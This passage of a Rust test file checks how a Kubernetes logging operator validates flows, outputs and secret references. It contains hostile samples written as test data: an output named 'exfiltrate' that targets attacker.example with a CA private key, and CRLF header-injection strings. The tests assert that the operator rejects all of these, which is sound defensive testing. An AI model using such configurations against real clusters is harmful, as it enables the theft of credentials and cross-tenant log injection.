//! Resolution: each object is validated on its own, and a broken one never takes the others
//! down with it.

use std::path::PathBuf;

use sluice::api::KeyAlgorithm;
use sluice::cli::input;
use sluice::model::{self, Kind, ObjectKey};
use sluice::routing::Watched;

fn examples() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples")
}

fn load_with(extra: &str) -> input::Loaded {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("extra.yaml"), extra).unwrap();
    input::load(&[examples(), dir.path().to_owned()]).unwrap()
}

#[test]
fn the_examples_resolve_without_problems() {
    let loaded = input::load(&[examples()]).unwrap();
    let resolution = model::resolve(&loaded.objects.inventory());
    assert_eq!(resolution.problems, Default::default());
    let pipeline = &resolution.pipelines[0];
    let flows: Vec<String> = pipeline.flows.iter().map(|f| f.key.to_string()).collect();
    assert_eq!(
        flows,
        [
            "ClusterFlow platform",
            "ClusterFlow security-audit",
            "Flow data/batch-jobs",
            "Flow data/drop-the-rest",
            "Flow payments/api",
            "Flow storefront/everything-but-cache",
            "Flow storefront/frontend-errors",
        ]
    );
    // watchNamespaces plus the namespace its selector matches.
    assert_eq!(
        pipeline.watched,
        Watched::Only(
            ["data", "payments", "platform-tools", "storefront"]
                .map(String::from)
                .into()
        )
    );
    assert_eq!(
        pipeline.default_flow.as_ref().unwrap().outputs,
        [ObjectKey::cluster(Kind::ClusterOutput, "cluster-archive")]
    );
    assert_eq!(
        pipeline.error_output,
        Some(ObjectKey::cluster(Kind::ClusterOutput, "dead-letters"))
    );
    // Credentials are copied by reference, one file per Secret key, named by its content so
    // a new value is a new file.
    let (name, value) = pipeline
        .output_secret_data
        .iter()
        .find(|(name, _)| name.ends_with("-payments_payments-es_password"))
        .expect("the password is copied");
    assert_eq!(
        *name,
        sluice::bundle::content_addressed_name("payments_payments-es_password", value)
    );
    assert!(
        pipeline
            .output_secret_data
            .keys()
            .any(|name| name.ends_with("-sluice-system_siem-hec_token"))
    );
}

#[test]
fn an_invalid_flow_is_left_out_and_the_others_keep_flowing() {
    let broken = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {name: broken, namespace: payments}
spec:
  match: [{select: {labels: {a: b}}, exclude: {hosts: [node-1]}}]
  localOutputRefs: [payments-es]
"#;
    let resolution = model::resolve(&load_with(broken).objects.inventory());
    let key = ObjectKey::namespaced(Kind::Flow, "payments", "broken");
    assert_eq!(resolution.problems[&key][0].reason, "InvalidMatch");
    assert_eq!(
        resolution.problems.len(),
        1,
        "only the broken flow has problems: {:?}",
        resolution.problems
    );
    let pipeline = &resolution.pipelines[0];
    assert!(pipeline.flows.iter().all(|f| f.key != key));
    assert_eq!(pipeline.flows.len(), 7);
}

#[test]
fn a_missing_secret_affects_only_the_output_and_the_flows_using_it() {
    let leaky = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Output
metadata: {name: payments-es, namespace: payments}
spec:
  elasticsearch:
    hosts: [https://es.example.com:9200]
    basicAuth: {username: u, passwordSecretRef: {name: gone, key: password}}
"#;
    let dir = tempfile::tempdir().unwrap();
    let original = std::fs::read_to_string(examples().join("30-team-payments.yaml")).unwrap();
    // Only the team's Flow, without its Output and Secret.
    let without_output = original
        .split("\n---\n")
        .find(|document| document.contains("\nkind: Flow\n"))
        .unwrap();
    std::fs::write(
        dir.path().join("30-team-payments.yaml"),
        format!("{without_output}\n---{leaky}"),
    )
    .unwrap();
    let mut paths: Vec<PathBuf> = std::fs::read_dir(examples())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| !p.ends_with("30-team-payments.yaml"))
        .collect();
    paths.push(dir.path().to_owned());
    let resolution = model::resolve(&input::load(&paths).unwrap().objects.inventory());

    let output = ObjectKey::namespaced(Kind::Output, "payments", "payments-es");
    let flow = ObjectKey::namespaced(Kind::Flow, "payments", "api");
    assert_eq!(resolution.problems[&output][0].reason, "SecretNotFound");
    assert_eq!(resolution.problems[&flow][0].reason, "OutputInvalid");
    assert_eq!(resolution.problems.len(), 2);
    let pipeline = &resolution.pipelines[0];
    let api = pipeline.flows.iter().find(|f| f.key == flow).unwrap();
    // The flow still ships to the output that works.
    assert_eq!(
        api.outputs,
        [ObjectKey::cluster(Kind::ClusterOutput, "shared-loki")]
    );
    assert!(!pipeline.outputs.contains_key(&output));
}

#[test]
fn objects_of_unwatched_namespaces_do_not_belong() {
    let stray = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {name: stray, namespace: not-watched}
spec:
  localOutputRefs: [nothing-here]
"#;
    let resolution = model::resolve(&load_with(stray).objects.inventory());
    assert!(resolution.problems.is_empty(), "{:?}", resolution.problems);
    assert!(
        resolution.pipelines[0]
            .flows
            .iter()
            .all(|f| f.key.name != "stray")
    );
}

#[test]
fn a_dangling_logging_ref_is_a_problem() {
    let stray = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: ClusterFlow
metadata: {name: orphan}
spec:
  loggingRef: nonexistent
"#;
    let resolution = model::resolve(&load_with(stray).objects.inventory());
    let key = ObjectKey::cluster(Kind::ClusterFlow, "orphan");
    assert_eq!(resolution.problems[&key][0].reason, "LoggingNotFound");
}

// ---------------------------------------------------------------------------------------
// What fluentd compiles is checked as fluentd compiles it: an object fluentd would refuse at
// startup is left out with a problem naming the field, and every other flow keeps going.

fn reasons(resolution: &model::Resolution, key: &ObjectKey) -> Vec<(&'static str, String)> {
    resolution
        .problems
        .get(key)
        .map(|problems| {
            problems
                .iter()
                .map(|p| (p.reason, p.field.clone()))
                .collect()
        })
        .unwrap_or_default()
}

/// A Flow in `payments` with these filters, sending to the team's output.
fn payments_flow_with(filters: &str) -> String {
    format!(
        r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {{name: filtered, namespace: payments}}
spec:
  filters: {filters}
  localOutputRefs: [payments-es]
"#
    )
}

/// Resolves the examples plus `extra`; asserts `key` is left out with a problem of `reason`
/// at `field`, that it is the only object with problems and every example flow still runs.
fn assert_left_out(extra: &str, key: &ObjectKey, reason: &str, field: &str) -> model::Resolution {
    let resolution = model::resolve(&load_with(extra).objects.inventory());
    let found = reasons(&resolution, key);
    assert!(
        found.iter().any(|(r, f)| *r == reason && f == field),
        "{key}: {found:?}"
    );
    assert_eq!(
        resolution.problems.keys().collect::<Vec<_>>(),
        [key],
        "only {key} has problems"
    );
    let pipeline = &resolution.pipelines[0];
    assert!(pipeline.flows.iter().all(|f| &f.key != key));
    assert!(!pipeline.outputs.contains_key(key));
    assert_eq!(pipeline.flows.len(), 7, "every example flow still runs");
    resolution
}

fn filtered_flow() -> ObjectKey {
    ObjectKey::namespaced(Kind::Flow, "payments", "filtered")
}

#[test]
fn a_grep_pattern_ruby_cannot_compile_is_left_out() {
    let extra = payments_flow_with(r#"[{grep: {regexp: [{key: message, pattern: "(unclosed"}]}}]"#);
    let resolution = assert_left_out(
        &extra,
        &filtered_flow(),
        "InvalidPattern",
        "spec.filters[0].grep.regexp[0].pattern",
    );
    let message = &resolution.problems[&filtered_flow()][0].message;
    assert!(
        message.contains("end pattern with unmatched parenthesis"),
        "fluentd's reason: {message}"
    );
    // Ruby syntax, not Rust's: a Python-style group is refused, a lookbehind accepted.
    let python =
        payments_flow_with(r#"[{grep: {exclude: [{key: message, pattern: "(?P<n>x)"}]}}]"#);
    assert_left_out(
        &python,
        &filtered_flow(),
        "InvalidPattern",
        "spec.filters[0].grep.exclude[0].pattern",
    );
    let lookbehind =
        payments_flow_with(r#"[{grep: {regexp: [{key: message, pattern: "(?<=GET )/health"}]}}]"#);
    let resolution = model::resolve(&load_with(&lookbehind).objects.inventory());
    assert!(resolution.problems.is_empty(), "{:?}", resolution.problems);
}

#[test]
fn two_grep_patterns_on_one_key_are_left_out() {
    let extra = payments_flow_with(
        r#"[{grep: {regexp: [{key: level, pattern: "error"}, {key: level, pattern: "warn"}]}}]"#,
    );
    let resolution = assert_left_out(
        &extra,
        &filtered_flow(),
        "DuplicateKey",
        "spec.filters[0].grep.regexp[1].key",
    );
    assert!(
        resolution.problems[&filtered_flow()][0]
            .message
            .contains("Duplicate key: level")
    );
    // The same key once in `regexp` and once in `exclude` is fine for fluentd.
    let both = payments_flow_with(
        r#"[{grep: {regexp: [{key: level, pattern: "error"}], exclude: [{key: level, pattern: "debug"}]}}]"#,
    );
    assert!(
        model::resolve(&load_with(&both).objects.inventory())
            .problems
            .is_empty()
    );
}

#[test]
fn a_parser_expression_without_named_captures_is_left_out() {
    let extra = payments_flow_with(
        r#"[{parser: {keyName: message, format: regexp, expression: "^(\\w+) (.*)$"}}]"#,
    );
    let resolution = assert_left_out(
        &extra,
        &filtered_flow(),
        "InvalidPattern",
        "spec.filters[0].parser.expression",
    );
    assert!(
        resolution.problems[&filtered_flow()][0]
            .message
            .contains("No named captures in 'expression' parameter")
    );
    let named = payments_flow_with(
        r#"[{parser: {keyName: message, format: regexp, expression: "^(?<level>\\w+) (?<text>.*)$"}}]"#,
    );
    assert!(
        model::resolve(&load_with(&named).objects.inventory())
            .problems
            .is_empty()
    );
}

#[test]
fn a_record_accessor_fluentd_cannot_parse_is_left_out() {
    let extra = payments_flow_with(
        r#"[{grep: {regexp: [{key: "$.kubernetes.labels[app", pattern: "x"}]}}]"#,
    );
    let resolution = assert_left_out(
        &extra,
        &filtered_flow(),
        "InvalidKey",
        "spec.filters[0].grep.regexp[0].key",
    );
    assert!(
        resolution.problems[&filtered_flow()][0]
            .message
            .contains("'[' found but ']' not found")
    );
    for (filters, field) in [
        (
            r#"[{parser: {keyName: "$.a b", format: json}}]"#,
            "spec.filters[0].parser.keyName",
        ),
        (
            r#"[{recordTransformer: {removeKeys: ["$['a\"]"]}}]"#,
            "spec.filters[0].recordTransformer.removeKeys[0]",
        ),
    ] {
        assert_left_out(
            &payments_flow_with(filters),
            &filtered_flow(),
            "InvalidKey",
            field,
        );
    }
    let valid = payments_flow_with(
        r#"[{grep: {regexp: [{key: "$['kubernetes']['labels']['app.kubernetes.io/name']", pattern: "x"}]}}]"#,
    );
    assert!(
        model::resolve(&load_with(&valid).objects.inventory())
            .problems
            .is_empty()
    );
}

/// An Output in `payments` with this spec, used by a Flow there.
fn payments_output(spec: &str) -> String {
    format!(
        r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Output
metadata: {{name: extra, namespace: payments}}
spec: {spec}
---
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {{name: to-extra, namespace: payments}}
spec:
  localOutputRefs: [extra]
"#
    )
}

fn extra_output() -> ObjectKey {
    ObjectKey::namespaced(Kind::Output, "payments", "extra")
}

/// The output is left out and its flow reports that, while everything else runs.
fn assert_output_left_out(spec: &str, reason: &str, field: &str) -> model::Resolution {
    assert_extra_output_left_out(&payments_output(spec), reason, field)
}

/// `assert_output_left_out` for objects that come with more than the output and its flow.
fn assert_extra_output_left_out(extra: &str, reason: &str, field: &str) -> model::Resolution {
    let resolution = model::resolve(&load_with(extra).objects.inventory());
    let found = reasons(&resolution, &extra_output());
    assert!(
        found.iter().any(|(r, f)| *r == reason && f == field),
        "{found:?}"
    );
    let flow = ObjectKey::namespaced(Kind::Flow, "payments", "to-extra");
    let mut with_problems: Vec<&ObjectKey> = resolution.problems.keys().collect();
    with_problems.sort();
    assert_eq!(with_problems, [&flow, &extra_output()]);
    let pipeline = &resolution.pipelines[0];
    assert!(!pipeline.outputs.contains_key(&extra_output()));
    assert_eq!(
        pipeline.flows.len(),
        8,
        "the examples' flows and the new one"
    );
    resolution
}

#[test]
fn a_file_path_fluentd_refuses_is_left_out() {
    for path in [
        "logs/%Y/app",
        "logs/${tag}",
        "logs/${kubernetes.namespace_name}",
    ] {
        let resolution = assert_output_left_out(
            &format!(r#"{{file: {{path: "{path}"}}}}"#),
            "InvalidPath",
            "spec.file.path",
        );
        assert!(
            resolution.problems[&extra_output()]
                .iter()
                .any(|p| p.reason == "InvalidPath" && p.message.contains("fluentd refuses it")),
            "{path}"
        );
    }
    // The path is fine; a tenant file output still needs the admin's allowFileOutputs.
    let complete = payments_output(r#"{file: {path: "logs/%Y/%m/%d/%H/app"}}"#);
    let resolution = model::resolve(&load_with(&complete).objects.inventory());
    let found = reasons(&resolution, &extra_output());
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "FileOutputNotAllowed");
}

#[test]
fn a_loki_label_fluentd_cannot_read_is_left_out() {
    assert_output_left_out(
        r#"{loki: {url: "https://loki.example", labels: {app: "$.kubernetes.labels[app"}}}"#,
        "InvalidKey",
        "spec.loki.labels.app",
    );
}

#[test]
fn allowed_client_names_are_checked_as_ruby_compiles_them() {
    let dir = tempfile::tempdir().unwrap();
    let original = std::fs::read_to_string(examples().join("90-logging.yaml")).unwrap();
    // Accepted by Rust's regex syntax, a syntax error in Ruby.
    let changed = original.replacen(
        "  tls:\n",
        "  tls:\n    allowedClientNames: \"(?P<agent>fluent-bit-.*)\"\n",
        1,
    );
    assert_ne!(changed, original);
    std::fs::write(dir.path().join("90-logging.yaml"), changed).unwrap();
    let mut paths: Vec<PathBuf> = std::fs::read_dir(examples())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| !p.ends_with("90-logging.yaml"))
        .collect();
    paths.push(dir.path().to_owned());
    let resolution = model::resolve(&input::load(&paths).unwrap().objects.inventory());
    let logging = ObjectKey::cluster(Kind::Logging, "main");
    assert_eq!(
        reasons(&resolution, &logging),
        [("InvalidPattern", "spec.tls.allowedClientNames".to_owned())]
    );
}

// ---------------------------------------------------------------------------------------
// References: an output reaches only its own namespace's Secrets, never Sluice's.

#[test]
fn a_secret_name_the_api_server_cannot_take_degrades_only_the_output() {
    assert_output_left_out(
        r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: "a b", key: password}}}}"#,
        "InvalidSecretName",
        "spec.http.basicAuth.passwordSecretRef",
    );
}

#[test]
fn an_unreadable_secret_degrades_only_the_output() {
    let loaded = load_with(&payments_output(
        r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: locked, key: password}}}}"#,
    ));
    let mut inventory = loaded.objects.inventory();
    inventory.secret_errors.insert(
        ("payments".to_owned(), "locked".to_owned()),
        "secrets \"locked\" is forbidden".to_owned(),
    );
    let resolution = model::resolve(&inventory);
    let problems = &resolution.problems[&extra_output()];
    assert_eq!(problems[0].reason, "SecretUnreadable");
    assert!(problems[0].message.contains("forbidden"));
    assert_eq!(resolution.problems.len(), 2, "{:?}", resolution.problems);
    assert_eq!(resolution.pipelines[0].flows.len(), 8);
}

#[test]
fn outputs_cannot_reference_the_secrets_sluice_manages() {
    let extra = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: ClusterOutput
metadata: {name: exfiltrate}
spec:
  http:
    endpoint: https://attacker.example
    basicAuth: {username: u, passwordSecretRef: {name: main-ca, key: ca.key}}
---
apiVersion: v1
kind: Secret
metadata: {name: main-ca, namespace: logging}
stringData: {ca.key: "-----BEGIN PRIVATE KEY-----"}
---
apiVersion: logging.sluice.dev/v1alpha1
kind: ClusterFlow
metadata: {name: everything}
spec:
  globalOutputRefs: [exfiltrate]
"#;
    let resolution = model::resolve(&load_with(extra).objects.inventory());
    let output = ObjectKey::cluster(Kind::ClusterOutput, "exfiltrate");
    assert_eq!(
        reasons(&resolution, &output),
        [(
            "SecretNotAllowed",
            "spec.http.basicAuth.passwordSecretRef".to_owned()
        )]
    );
    let pipeline = &resolution.pipelines[0];
    assert!(!pipeline.outputs.contains_key(&output));
    // Nothing of the CA key reaches the aggregator's credentials Secret.
    assert!(
        pipeline
            .output_secret_data
            .values()
            .all(|v| !String::from_utf8_lossy(v).contains("PRIVATE KEY")),
        "{:?}",
        pipeline.output_secret_data.keys()
    );
    assert!(
        pipeline
            .output_secret_data
            .keys()
            .all(|k| !k.contains("main-ca"))
    );

    // By label too: a Secret Sluice created, whatever its name.
    let labelled = r#"
apiVersion: v1
kind: Secret
metadata:
  name: renamed
  namespace: payments
  labels: {app.kubernetes.io/managed-by: sluice}
stringData: {password: x}
"#;
    let spec = r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: renamed, key: password}}}}"#;
    let resolution = model::resolve(
        &load_with(&format!("{}---{labelled}", payments_output(spec)))
            .objects
            .inventory(),
    );
    assert_eq!(
        reasons(&resolution, &extra_output()),
        [(
            "SecretNotAllowed",
            "spec.http.basicAuth.passwordSecretRef".to_owned()
        )]
    );
}

#[test]
fn an_output_reads_secrets_of_its_own_namespace_only() {
    // `payments-es` exists in namespace payments, not in storefront.
    let extra = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Output
metadata: {name: borrow, namespace: storefront}
spec:
  http:
    endpoint: https://logs.example
    basicAuth: {username: u, passwordSecretRef: {name: payments-es, key: password}}
---
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {name: borrower, namespace: storefront}
spec:
  localOutputRefs: [borrow]
"#;
    let resolution = model::resolve(&load_with(extra).objects.inventory());
    let output = ObjectKey::namespaced(Kind::Output, "storefront", "borrow");
    assert_eq!(resolution.problems[&output][0].reason, "SecretNotFound");
    assert!(
        resolution.problems[&output][0]
            .message
            .contains("storefront/payments-es")
    );
}

// ---------------------------------------------------------------------------------------

#[test]
fn a_logging_ref_to_a_logging_that_does_not_watch_the_namespace_is_not_rendered() {
    let extra = r#"
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {name: sneaky, namespace: not-watched}
spec:
  loggingRef: main
  localOutputRefs: [sneaky-out]
---
apiVersion: logging.sluice.dev/v1alpha1
kind: Output
metadata: {name: sneaky-out, namespace: not-watched}
spec:
  loggingRef: main
  nullOutput: {}
"#;
    let resolution = model::resolve(&load_with(extra).objects.inventory());
    let flow = ObjectKey::namespaced(Kind::Flow, "not-watched", "sneaky");
    let output = ObjectKey::namespaced(Kind::Output, "not-watched", "sneaky-out");
    assert_eq!(
        reasons(&resolution, &flow),
        [("NamespaceNotWatched", "spec.loggingRef".to_owned())]
    );
    assert_eq!(
        reasons(&resolution, &output),
        [("NamespaceNotWatched", "spec.loggingRef".to_owned())]
    );
    let pipeline = &resolution.pipelines[0];
    assert!(pipeline.flows.iter().all(|f| f.key != flow));
    assert!(!pipeline.outputs.contains_key(&output));
}

#[test]
fn an_s3_endpoint_out_s3_refuses_is_left_out() {
    assert_output_left_out(
        r#"{s3: {bucket: logs, region: eu-west-1, endpoint: "https://s3.eu-west-1.amazonaws.com"}}"#,
        "InvalidEndpoint",
        "spec.s3.endpoint",
    );
}

#[test]
fn an_unreadable_secret_of_the_logging_is_reported_and_the_pipeline_still_built() {
    let mut objects = input::load(&[examples()]).unwrap().objects;
    let logging = &mut objects.loggings[0];
    let tls = logging.spec.tls.get_or_insert_with(Default::default);
    tls.shared_key_secret_ref = Some(sluice::api::SecretKeyRef {
        name: "custom-key".to_owned(),
        key: "key".to_owned(),
    });
    let mut inventory = objects.inventory();
    inventory.secret_errors.insert(
        ("sluice-system".to_owned(), "custom-key".to_owned()),
        "secrets \"custom-key\" is forbidden".to_owned(),
    );
    let resolution = model::resolve(&inventory);
    let key = ObjectKey::cluster(Kind::Logging, "main");
    assert_eq!(
        reasons(&resolution, &key),
        [("SecretUnreadable", "spec.tls".to_owned())]
    );
    assert_eq!(resolution.problems.len(), 1);
    assert_eq!(resolution.pipelines[0].flows.len(), 7);
}

// ---------------------------------------------------------------------------------------
// Credentials and addresses as the pinned plugins read them.

/// A self-signed certificate and its key, of `algorithm`, as PEM.
fn client_pair(algorithm: sluice::api::KeyAlgorithm) -> (String, String) {
    let key = sluice::pki::mint::generate_key(algorithm).unwrap();
    let cert = rcgen::CertificateParams::new(vec!["client".to_owned()])
        .unwrap()
        .self_signed(&key)
        .unwrap();
    (cert.pem(), key.serialize_pem())
}

/// `payments_output(spec)` plus Secret `payments/client` with keys `tls.crt`, `tls.key`.
fn with_client_secret(spec: &str, cert: &str, key: &str) -> String {
    let indent = |pem: &str| pem.replace('\n', "\n    ");
    format!(
        "{}---\napiVersion: v1\nkind: Secret\nmetadata: {{name: client, namespace: payments}}\nstringData:\n  tls.crt: |\n    {}\n  tls.key: |\n    {}\n",
        payments_output(spec),
        indent(cert),
        indent(key)
    )
}

const CLIENT_TLS: &str =
    "{certSecretRef: {name: client, key: tls.crt}, keySecretRef: {name: client, key: tls.key}}";

fn problems_with_client(spec: &str, cert: &str, key: &str) -> Vec<(&'static str, String)> {
    let resolution = model::resolve(
        &load_with(&with_client_secret(spec, cert, key))
            .objects
            .inventory(),
    );
    reasons(&resolution, &extra_output())
}

/// The client key of `kind` must be one of `accepted`; `refused` leaves the output out.
fn assert_client_keys(
    kind: &str,
    extra: &str,
    accepted: &[KeyAlgorithm],
    refused: &[KeyAlgorithm],
    plugin_reason: &str,
) {
    let spec = format!("{{{kind}: {{{extra}tls: {CLIENT_TLS}}}}}");
    for algorithm in accepted {
        let (cert, key) = client_pair(*algorithm);
        assert_eq!(
            problems_with_client(&spec, &cert, &key),
            [],
            "{kind} {algorithm:?}"
        );
    }
    for algorithm in refused {
        let (cert, key) = client_pair(*algorithm);
        let resolution = assert_extra_output_left_out(
            &with_client_secret(&spec, &cert, &key),
            "InvalidCredential",
            &format!("spec.{kind}.tls.keySecretRef"),
        );
        let message = &resolution.problems[&extra_output()][0].message;
        assert!(message.contains("payments/client"), "{message}");
        assert!(message.contains(plugin_reason), "{message}");
    }
}

#[test]
fn a_loki_client_key_that_is_not_rsa_or_dsa_is_left_out() {
    assert_client_keys(
        "loki",
        r#"url: "https://loki.example", "#,
        &[KeyAlgorithm::Rsa2048],
        &[KeyAlgorithm::EcdsaP256, KeyAlgorithm::Ed25519],
        "Unsupported private key type",
    );
}

#[test]
fn a_splunk_client_key_that_is_not_rsa_is_left_out() {
    assert_client_keys(
        "splunkHec",
        "host: splunk.example, tokenSecretRef: {name: payments-es, key: password}, ",
        &[KeyAlgorithm::Rsa2048],
        &[KeyAlgorithm::EcdsaP256],
        "OpenSSL::PKey::RSA.new",
    );
}

#[test]
fn client_certificates_and_keys_that_are_not_pem_are_left_out() {
    let (cert, key) = client_pair(KeyAlgorithm::EcdsaP256);
    for kind in ["forward", "http", "elasticsearch", "kafka"] {
        let extra = match kind {
            "forward" => "servers: [{host: fwd.example}], ",
            "http" => "endpoint: https://logs.example, ",
            "elasticsearch" => "hosts: [https://es.example:9200], ",
            _ => "brokers: [kafka.example:9093], topic: logs, ",
        };
        let spec = format!("{{{kind}: {{{extra}tls: {CLIENT_TLS}}}}}");
        assert_eq!(problems_with_client(&spec, &cert, &key), [], "{kind}");
        for (cert, key, field) in [
            ("garbage", key.as_str(), "certSecretRef"),
            (cert.as_str(), "garbage", "keySecretRef"),
        ] {
            assert_extra_output_left_out(
                &with_client_secret(&spec, cert, key),
                "InvalidCredential",
                &format!("spec.{kind}.tls.{field}"),
            );
        }
    }
}

#[test]
fn a_kafka_ca_that_is_not_pem_is_left_out() {
    let ca = "{brokers: [kafka.example:9093], topic: logs, tls: {caSecretRef: {name: client, key: tls.crt}}}";
    assert_extra_output_left_out(
        &with_client_secret(&format!("{{kafka: {ca}}}"), "garbage", "unused"),
        "InvalidCredential",
        "spec.kafka.tls.caSecretRef",
    );
}

#[test]
fn a_kafka_client_certificate_without_its_key_is_left_out() {
    let (cert, key) = client_pair(KeyAlgorithm::EcdsaP256);
    assert_extra_output_left_out(
        &with_client_secret(
            "{kafka: {brokers: [kafka.example:9093], topic: logs, tls: {certSecretRef: {name: client, key: tls.crt}}}}",
            &cert,
            &key,
        ),
        "InvalidCredential",
        "spec.kafka.tls",
    );
}

/// Each spec is left out with `InvalidUrl` on `field`; each of `fine` resolves cleanly.
fn assert_urls(refused: &[(&str, &str)], fine: &[&str]) {
    for (spec, field) in refused {
        assert_output_left_out(spec, "InvalidUrl", field);
    }
    for spec in fine {
        let problems =
            model::resolve(&load_with(&payments_output(spec)).objects.inventory()).problems;
        assert!(problems.is_empty(), "{spec}: {problems:?}");
    }
}

#[test]
fn a_loki_url_ruby_refuses_is_left_out() {
    assert_urls(
        &[
            (r#"{loki: {url: "http://[bad"}}"#, "spec.loki.url"),
            (r#"{loki: {url: "https://a@b@loki"}}"#, "spec.loki.url"),
            (r#"{loki: {url: "https://loki?org=1"}}"#, "spec.loki.url"),
        ],
        &[r#"{loki: {url: "http://[::1]:3100/prefix"}}"#],
    );
}

#[test]
fn an_http_endpoint_ruby_refuses_is_left_out() {
    assert_urls(
        &[
            (
                r#"{http: {endpoint: "https://logs.example/{x}"}}"#,
                "spec.http.endpoint",
            ),
            (
                r#"{http: {endpoint: "https://logs.example:99999"}}"#,
                "spec.http.endpoint",
            ),
        ],
        &[r#"{http: {endpoint: "https://u:p@logs.example:8443/in?x=a|b"}}"#],
    );
}

#[test]
fn an_s3_endpoint_ruby_refuses_is_left_out() {
    assert_urls(
        &[(
            r#"{s3: {bucket: logs, region: eu-west-1, endpoint: "https://minio:9000%"}}"#,
            "spec.s3.endpoint",
        )],
        &[],
    );
}

#[test]
fn search_hosts_the_plugin_cannot_read_are_left_out() {
    assert_urls(
        &[
            (
                r#"{elasticsearch: {hosts: ["https://es.example:92x0"]}}"#,
                "spec.elasticsearch.hosts[0]",
            ),
            (
                r#"{opensearch: {hosts: ["os.example", "os/x"]}}"#,
                "spec.opensearch.hosts[1]",
            ),
        ],
        &[
            r#"{elasticsearch: {hosts: ["es.example:9200", "https://%{u s}:%{p@ss}@es.example/p", "::1"]}}"#,
        ],
    );
}

#[test]
fn kafka_brokers_ruby_kafka_refuses_are_left_out() {
    assert_urls(
        &[
            (
                r#"{kafka: {brokers: ["http://kafka:9092"], topic: logs}}"#,
                "spec.kafka.brokers[0]",
            ),
            (
                r#"{kafka: {brokers: ["kafka:90 92"], topic: logs}}"#,
                "spec.kafka.brokers[0]",
            ),
        ],
        &[r#"{kafka: {brokers: ["kafka:9092", "kafka+ssl://kafka:9093"], topic: logs}}"#],
    );
}

#[test]
fn a_splunk_host_ruby_refuses_is_left_out() {
    assert_urls(
        &[(
            r#"{splunkHec: {host: "splunk/x", tokenSecretRef: {name: payments-es, key: password}}}"#,
            "spec.splunkHec.host",
        )],
        &[r#"{splunkHec: {host: "[::1]", tokenSecretRef: {name: payments-es, key: password}}}"#],
    );
}

#[test]
fn http_headers_that_cannot_be_sent_are_left_out() {
    for (headers, field) in [
        (r#"{"X Team": a}"#, "spec.http.headers.X Team"),
        (r#"{"X-Team:": a}"#, "spec.http.headers.X-Team:"),
        (
            r#"{X-Team: "a\r\nX-Injected: b"}"#,
            "spec.http.headers.X-Team",
        ),
    ] {
        assert_output_left_out(
            &format!(r#"{{http: {{endpoint: "https://logs.example", headers: {headers}}}}}"#),
            "InvalidHeader",
            field,
        );
    }
    let fine = payments_output(
        r#"{http: {endpoint: "https://logs.example", headers: {X-Team: "payments; v=1"}}}"#,
    );
    assert!(
        model::resolve(&load_with(&fine).objects.inventory())
            .problems
            .is_empty()
    );
}

#[test]
fn a_loki_tenant_that_cannot_be_a_header_is_left_out() {
    assert_output_left_out(
        r#"{loki: {url: "https://loki.example", tenant: "a\r\nX-Scope-OrgID: other"}}"#,
        "InvalidHeader",
        "spec.loki.tenant",
    );
}

#[test]
fn a_splunk_token_that_cannot_be_a_header_is_left_out() {
    let spec = "{splunkHec: {host: splunk.example, tokenSecretRef: {name: client, key: tls.crt}}}";
    assert_extra_output_left_out(
        &with_client_secret(spec, "token\n\nX-Other: 1", "unused"),
        "InvalidCredential",
        "spec.splunkHec.tokenSecretRef",
    );
    // One trailing line break is what `chomp` removes.
    assert_eq!(problems_with_client(spec, "token", "unused"), []);
}

// ---------------------------------------------------------------------------------------
// Loggings are isolated from each other: of two claiming one control namespace (or one
// agent host directory) the older keeps it, and a refused Logging contributes nothing.

/// The examples plus `extra`, each Logging created at the instant `created` gives its name.
fn loaded_created(extra: &str, created: &[(&str, &str)]) -> model::Objects {
    let mut objects = load_with(extra).objects;
    for logging in &mut objects.loggings {
        let name = logging.metadata.name.clone().unwrap_or_default();
        let at = created.iter().find(|(n, _)| *n == name).map(|(_, at)| at);
        logging.metadata.creation_timestamp =
            at.map(|at| k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(at.parse().unwrap()));
    }
    objects
}

/// A Logging named `name` with this spec (YAML flow mapping).
fn logging_yaml(name: &str, spec: &str) -> String {
    format!(
        "apiVersion: logging.sluice.dev/v1alpha1\nkind: Logging\nmetadata: {{name: {name}}}\nspec: {spec}\n"
    )
}

fn logging_key(name: &str) -> ObjectKey {
    ObjectKey::cluster(Kind::Logging, name)
}

/// `resolution` without the problems of Logging `refused`.
fn without(resolution: &model::Resolution, refused: &str) -> model::Resolution {
    let mut rest = resolution.clone();
    rest.problems.remove(&logging_key(refused));
    rest
}

/// Asserts Logging `refused` is refused for `reason` and that everything else resolves
/// exactly as without it: same pipelines, same problems, so no Secret it names, no shared
/// object it uses and no Flow or Output it would collect can tell it exists.
fn assert_contributes_nothing(
    baseline: &model::Resolution,
    resolution: &model::Resolution,
    refused: &str,
    reason: &str,
) {
    let found = reasons(resolution, &logging_key(refused));
    assert!(
        found.iter().any(|(r, _)| *r == reason),
        "{refused}: {found:?}"
    );
    assert!(resolution.pipelines.iter().all(|p| p.logging != refused));
    assert_eq!(&without(resolution, refused), baseline);
}

/// A Logging that wants everything the examples' `main` has: all namespaces, the shared
/// ClusterOutputs (the protected one too), and their Secrets' names for its own TLS.
const GREEDY: &str = "{controlNamespace: sluice-system, defaultFlow: {globalOutputRefs: [security-siem, shared-loki]}, errorOutputRef: dead-letters, tls: {mode: Existing, existing: {serverSecretName: siem-hec, clientSecretName: loki-credentials}}}";

#[test]
fn the_older_logging_keeps_a_contested_control_namespace_whatever_the_names() {
